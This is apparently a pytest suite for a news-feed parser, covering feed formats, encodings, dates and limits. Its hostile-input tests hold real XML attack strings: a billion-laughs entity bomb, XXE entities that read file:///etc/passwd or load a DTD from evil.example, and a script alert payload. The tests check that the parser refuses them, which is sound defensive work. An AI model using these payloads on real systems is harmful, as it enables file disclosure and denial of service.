"""Feeds: what each format gives, and what hostile or broken bodies do. Bodies here are of our own making."""

from __future__ import annotations

import pickle
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.core.feeds import parse as feeds
from pipeline.core.feeds.decode import decode, plain
from pipeline.core.feeds.parse import Parsed, parse_feed
from pipeline.records import Feed, Item, encode

DATA = Path(__file__).parents[2] / "data" / "feeds"
SEEN = datetime(2026, 11, 22, 6, tzinfo=UTC)
FEED = Feed(id="faro", name="El Faro", url="https://faro.example/rss", country="VE")


def read(body: bytes | str, content_type: str = "", feed: Feed = FEED, url: str = "https://faro.example/rss") -> Parsed:
    return parse_feed(body.encode() if isinstance(body, str) else body, content_type, feed, url, SEEN)


def items(parsed: Parsed) -> list[Item]:
    assert parsed.problem is None, parsed.detail
    return [entry.item for entry in parsed.entries]


def rss(*entries: str, head: str = "", more: str = "") -> str:
    channel = f"<channel><title>T</title>{more}{''.join(entries)}</channel>"
    return f'<?xml version="1.0"?>{head}<rss version="2.0">{channel}</rss>'


def entry(n: int, extra: str = "") -> str:
    return f"<item><title>Nota {n}</title><link>https://faro.example/{n}</link>{extra}</item>"


# ---- formats ----


def test_rss2() -> None:
    parsed = read((DATA / "rss2.xml").read_bytes())
    first, second, third, fourth = items(parsed)
    assert parsed.title == "El Faro de Prueba & Cía"
    assert parsed.every == 1200
    assert dict(parsed.drops) == {"no_url": 1, "bad_url": 1, "repeated": 1}
    assert parsed.notes == ("bad_dates",)
    assert first.title == 'El Congreso debate "la entrada" de tropas & equipos'
    assert (first.url, first.guid, first.author) == ("https://faro.example/politica/tropas", "nota-1", "Marta Ruiz")
    assert first.published is not None
    assert first.published.value == datetime(2026, 7, 14, 8, 30, tzinfo=UTC)
    assert (first.published.source, first.published.raw) == ("feed", "mar, 14 jul 2026 10:30:00 CEST")
    assert first.summary == "Breve resumen de la nota."
    assert first.content is not None
    assert first.content.startswith("<p>Breve resumen")
    assert (first.feed, first.source, first.language, first.country) == ("faro", "El Faro", "es", "VE")
    assert (second.title, second.url) == ("Sin esquema 2 < 3", "https://faro.example/economia/nota-2")
    assert second.published is not None
    assert second.published.value == datetime(2026, 7, 14, 12, 15, tzinfo=UTC)  # the clock of Caracas
    assert (third.url, third.published) == ("https://faro.example/nota-3", None)
    assert (fourth.url, fourth.guid) == ("https://faro.example/nota-4", "nota-2")  # one guid for two is no loss


def test_atom() -> None:
    first, second = items(read((DATA / "atom.xml").read_bytes()))
    assert first.title == "Vote postponed & debated"
    assert first.url == "https://beacon.example/blog/1.html"
    assert first.author == "Ann Lee, Bo Chen"
    assert first.published is not None
    assert first.updated is not None
    assert first.published.value == datetime(2026, 7, 14, 7, tzinfo=UTC)
    assert first.updated.value == datetime(2026, 7, 14, 11, 30, tzinfo=UTC)
    assert second.url == "https://beacon.example/blog/2.html"
    assert second.published is not None
    assert second.published.source == "feed-updated"
    assert second.summary == "Body of two."


def test_rss1() -> None:
    parsed = read((DATA / "rss1.xml").read_bytes())
    (item,) = items(parsed)
    assert item.title == "L'armée — un vote"
    assert item.published is not None
    assert item.published.value == datetime(2026, 7, 14, 8, tzinfo=UTC)
    assert parsed.every == 1800


def test_json_feed() -> None:
    parsed = read((DATA / "feed.json").read_bytes(), url="https://leucht.example/feed.json")
    first, second = items(parsed)
    assert dict(parsed.drops) == {"no_url": 1}
    assert (first.title, first.url) == ("Bundestag < Bundesrat & Co", "https://leucht.example/artikel/7")
    assert (first.author, first.language, first.guid) == ("Uwe, Ina", "de", "7")
    assert first.summary == "Kurz & knapp: 3 < 4."
    assert second.url == "https://leucht.example/8"
    assert second.published is not None
    assert second.published.value == datetime(2026, 7, 14, tzinfo=UTC)


def test_the_feeds_own_language_and_outlet_win() -> None:
    feed = Feed(id="x", name="X", url="https://x.example/", language="fr")
    (item,) = items(read(rss(entry(1), more="<language>en-US</language>"), feed=feed))
    assert (item.language, item.source) == ("fr", "X")


def test_results_travel_between_processes_and_over_the_log() -> None:
    parsed = read((DATA / "rss2.xml").read_bytes())
    assert pickle.loads(pickle.dumps(parsed)) == parsed
    assert all(len(encode(item)) < 10_000 for item in items(parsed))


# ---- encodings ----


@pytest.mark.parametrize(
    ("encoding", "declared", "header"),
    [
        ("utf-8", "utf-8", ""),
        ("utf-8", "iso-8859-1", "text/xml; charset=iso-8859-1"),  # both lie
        ("utf-8-sig", "utf-8", ""),
        ("utf-16", "utf-16", ""),
        ("utf-16-le", "utf-16", "application/rss+xml"),
        ("utf-16-be", "utf-8", ""),
        ("utf-32", "utf-32", ""),
        ("cp1252", "iso-8859-1", ""),
        ("cp1252", "utf-8", "text/xml; charset=windows-1252"),
        ("cp1252", "no-such-thing", ""),
    ],
)
def test_encodings(encoding: str, declared: str, header: str) -> None:
    body = f'<?xml version="1.0" encoding="{declared}"?>' + rss(entry(1)).partition("?>")[2]
    body = body.replace("Nota 1", "Último “café” – niño")
    (item,) = items(read(body.encode(encoding), header))
    assert item.title == "Último “café” – niño"


@pytest.mark.parametrize(
    ("encoding", "title"),
    [("gb2312", "国会批准"), ("shift_jis", "国会が承認"), ("euc-kr", "국회 승인"), ("iso-2022-jp", "国会が承認"),
     ("windows-1251", "Парламент одобрил"), ("iso-8859-2", "Sejm przyjął"), ("big5", "立法院通過")],
)  # fmt: skip
def test_national_encodings(encoding: str, title: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?>' + rss(entry(1)).partition("?>")[2].replace("Nota 1", title)
    assert items(read(body.encode(encoding)))[0].title == title


def test_a_few_bad_bytes_cost_only_themselves() -> None:
    body = (
        rss(*(entry(n, "<description>ñandú y más</description>") for n in range(40)))
        .encode()
        .replace(b"Nota 7<", b"Nota \xff7<")
    )
    parsed = read(body)
    assert parsed.notes == ("bad_encoding",)
    assert items(parsed)[7].title == "Nota \ufffd7"
    assert items(parsed)[8].summary == "ñandú y más"


def test_control_characters_do_not_stop_it() -> None:
    assert [i.title for i in items(read(rss(entry(1), entry(2)).replace("Nota 1", "No\x00ta\x0b 1")))] == [
        "Nota 1",
        "Nota 2",
    ]


# ---- broken and hostile ----


@pytest.mark.parametrize(
    ("body", "problem", "detail"),
    [
        (b"", "empty", ""),
        (b" \n\t ", "empty", ""),
        (b"\xef\xbb\xbf", "empty", ""),
        ("<!DOCTYPE html><html><head><title>Just a moment…</title></head></html>", "not_a_feed", "Just a moment…"),
        ("<html><body><rss>no</rss></body></html>", "not_a_feed", "HTML"),
        ("<?xml version='1.0'?><urlset><url><loc>https://a.example/</loc></url></urlset>", "not_a_feed", "urlset"),
        (b"/etc/passwd", "not_a_feed", "/etc/passwd"),
        (b"https://faro.example/other.xml", "not_a_feed", "https"),
        (b"\x1f\x8b\x08\x00garbage", "not_a_feed", ""),
        (b"PK\x03\x04" + b"\x00" * 100, "not_a_feed", ""),
        ('{"a": 1}', "not_a_feed", "JSON"),
        ('{"version": "https://jsonfeed.org/version/1", "items": 5}', "not_a_feed", "items"),
        ('{"version": "https://jsonfeed.org/version/1", "items": [', "not_a_feed", "not JSON"),
        ('{"items":' + "[" * 100_000, "not_a_feed", "JSON"),
        ("<" * 100_000, "not_a_feed", ""),
        ("<!DOCTYPE " * 10_000, "not_a_feed", ""),
        ("<!--" * 50_000, "not_a_feed", ""),
        ("<?xml " * 50_000, "not_a_feed", ""),
    ],
)  # fmt: skip
def test_what_is_no_feed(body: bytes | str, problem: str, detail: str) -> None:
    parsed = read(body)
    assert parsed.problem == problem
    assert detail in parsed.detail
    assert not parsed.entries


def test_a_body_that_is_a_path_is_not_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text(rss(entry(1)))
    assert read(str(secret)).problem == "not_a_feed"
    assert read(f"file://{secret}").problem == "not_a_feed"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
        f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        "<!DOCTYPE rss [" + "".join(f'<!ENTITY e{n} "x">' for n in range(400)) + "]>",
    ],
)
def test_entities_are_refused_before_they_are_parsed(doctype: str) -> None:
    assert read(rss(entry(1, "<description>&l9;&a;&x;</description>"), head=doctype)).problem == "entities"
    assert read(rss(entry(1), head=f"<!-- c --> {doctype}").encode("utf-16")).problem == "entities"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.example/rss-0.91.dtd">',
        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY eacute "&#233;">]>',
        '<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/x.ent">\n]>',
    ],
)
def test_old_templates_declare_harmless_ones(doctype: str) -> None:
    assert items(read(rss(entry(1).replace("Nota", "Not&eacute;"), head=doctype)))[0].title == "Noté 1"


def test_named_entities_of_html_need_no_declaration() -> None:
    assert items(read(rss(entry(1).replace("Nota", "S&iacute;&nbsp;&mdash; AT&amp;T"))))[0].title == "Sí — AT&T 1"


def test_unescaped_ampersands() -> None:
    assert items(read(rss(entry(1).replace("Nota", "A & B"), entry(2).replace("/2<", "/2?a=1&b=2<"))))[1].url.endswith(
        "/2?a=1&b=2"
    )


def test_cut_off() -> None:
    body = rss(*(entry(n) for n in range(20)))
    parsed = read(body[: len(body) // 2])
    assert "truncated" in parsed.notes
    assert 8 <= len(items(parsed)) <= 11


def test_cut_off_before_the_first_entry() -> None:
    assert read('<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>').problem == "truncated"


def test_a_script_warning_before_the_feed() -> None:
    assert len(items(read("<br />\n<b>Warning</b>: something in <b>/srv/x.php</b><br />\n" + rss(entry(1))))) == 1
    assert len(items(read("\n\n  " + rss(entry(1))))) == 1


def test_a_valid_empty_feed_is_no_failure() -> None:
    parsed = read(rss())
    assert (parsed.problem, parsed.notes) == (None, ("no_entries",))


def test_300_broken_dates() -> None:
    bad = ["0000-00-00", "Thu, 99 Foo 20x6", "{{date}}", "1" * 500, "Invalid Date", "-1", "٣", "tomorrow &amp; after"]
    parsed = read(rss(*(entry(n, f"<pubDate>{bad[n % len(bad)]}</pubDate>") for n in range(300))))
    assert len(items(parsed)) == 300
    assert all(item.published is None for item in items(parsed))
    assert parsed.notes == ("bad_dates",)


def test_future_dates_become_the_time_seen_and_keep_their_text() -> None:
    (item,) = items(read(rss(entry(1, "<pubDate>Fri, 25 Dec 2026 10:00:00 GMT</pubDate>"))))
    assert item.published is not None
    assert (item.published.value, item.published.raw) == (SEEN, "Fri, 25 Dec 2026 10:00:00 GMT")


def test_too_large() -> None:
    assert read(b"<rss>" + b" " * 50_000_000).problem == "too_large"


def test_limits_of_entries_and_fields(monkeypatch: pytest.MonkeyPatch) -> None:
    long = "palabra " * 60_000
    parsed = read(rss(*(entry(n) for n in range(feeds.ENTRY_LIMIT + 50))))
    assert len(items(parsed)) == feeds.ENTRY_LIMIT
    assert parsed.notes == ("cut_entries",)
    body = rss(
        entry(1, f"<description>{long}</description><author>{long}</author><guid>{long}</guid>").replace("Nota", long)
    )
    (item,) = items(read(body))
    assert [len(part or "") for part in (item.title, item.summary, item.author, item.guid, item.content)] == [
        feeds.TITLE_LIMIT, feeds.SUMMARY_LIMIT, feeds.AUTHOR_LIMIT, feeds.GUID_LIMIT, feeds.CONTENT_LIMIT,
    ]  # fmt: skip
    assert read(rss(entry(1).replace("/1<", f"/{'x' * 9000}<"))).drops == (("bad_url", 1),)


def test_deep_nesting() -> None:
    deep = "<a>" * 20_000 + "x" + "</a>" * 20_000
    assert len(items(read(rss(entry(1, f"<description>{deep}</description>"), entry(2))))) == 2


def test_keys_follow_the_article_not_its_guid_or_title() -> None:
    one = read(rss(entry(1, "<guid>a</guid>"))).entries[0].key
    again = read(rss(entry(1, "<guid>b</guid>").replace("Nota", "Otra").replace("https:", "http:"))).entries[0].key
    other = read(rss(entry(2, "<guid>a</guid>"))).entries[0].key
    assert one == again != other


@given(st.binary(max_size=300))
def test_any_bytes_give_an_answer(body: bytes) -> None:
    read(body)


@given(st.text(max_size=60), st.text(max_size=60))
def test_any_text_in_a_feed_gives_an_answer(title: str, link: str) -> None:
    read(
        rss(f"<item><title>{title}</title><link>{link}</link><pubDate>{title}</pubDate></item>").encode(
            "utf-8", "replace"
        )
    )


# ---- text ----


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("a &amp;amp; b", "a & b"),
        ("<p>One</p><p>two<br/>three</p>", "One two three"),
        ("W<b>o</b>rd", "Word"),
        ("2 < 3 and 5 > 4", "2 < 3 and 5 > 4"),
        ("<script>alert(1)</script>text<style>p{}</style>", "text"),
        ("open <script>never closed", "open"),
        ("<!-- a <b> c -->kept", "kept"),
        ("\u200b\xa0 a \n\n b ", "a b"),
        ("<img src=x>", None),
        ("", None),
        (None, None),
    ],
)
def test_plain(markup: str | None, expected: str | None) -> None:
    assert plain(markup, 100) == expected


def test_plain_is_bounded() -> None:
    assert plain("word " * 100, 20) == "word word word word…"
    assert plain("<" * 1_000_000, 20) is not None
    assert plain("<!--<script" * 100_000, 20) is None


def test_decode_prefers_what_the_bytes_say() -> None:
    assert decode("ñ".encode(), "text/xml; charset=latin-1") == ("ñ", False)
    assert decode("ñ".encode("latin-1"), "text/xml; charset=utf-8")[1]
